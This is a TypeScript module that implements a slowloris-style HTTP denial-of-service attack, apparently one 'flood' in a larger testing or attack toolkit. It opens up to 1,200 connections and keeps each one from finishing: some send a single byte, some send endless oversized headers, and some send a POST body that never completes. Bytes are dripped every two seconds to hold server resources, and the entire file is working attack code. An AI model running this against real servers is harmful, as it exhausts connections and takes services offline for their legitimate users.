import type { Socket } from 'node:net';
import { atPace } from '../support/pace.ts';
import { Sockets } from '../support/sockets.ts';
import type { Flood } from '../support/target.ts';

const MOST = 1_200;
const DRIP_MS = 2_000;
/** A header that costs memory as long as the request does not end. */
const HEADER = `X-Slow: ${'z'.repeat(4_000)}\r\n`;

/** Requests that have begun: a head that goes on for ever, a body that does. */
export const beginnings = {
  head: (host: string): string => `GET / HTTP/1.1\r\nHost: ${host}\r\n${HEADER}`,
  body: (host: string): string =>
    `POST /healthz HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 100000\r\n\r\nz`,
};

/** What each of them says first and from time to time, in turn; the first one byte only. */
const kinds: readonly { readonly first: (host: string) => string; readonly drip: string }[] = [
  { first: () => 'G', drip: '' },
  { first: beginnings.head, drip: 'X-More: z\r\n' },
  { first: beginnings.body, drip: 'z' },
];

/** Requests that never end (slowloris). */
export const slowBytes: Flood = {
  name: 'slow-bytes',
  about: `${MOST} requests that never end: one byte, dripped headers, slow bodies`,
  start: async (target, signal) => {
    const sockets = new Sockets(target, MOST);
    const { http, host } = target;
    const dripOf = new Map<Socket, string>();
    const drip = setInterval(() => {
      for (const socket of sockets.open)
        if (socket.readyState === 'open') socket.write(dripOf.get(socket) ?? '');
    }, DRIP_MS);
    await atPace({ perSecond: 300, most: 20_000 }, signal, (n) => {
      const kind = kinds[n % kinds.length];
      if (!kind) return;
      const socket = sockets.call(http, (up) => up.write(kind.first(`${host}:${http}`)));
      if (!socket) return;
      dripOf.set(socket, kind.drip);
      socket.once('close', () => dripOf.delete(socket));
    });
    clearInterval(drip);
    return sockets.end();
  },
};
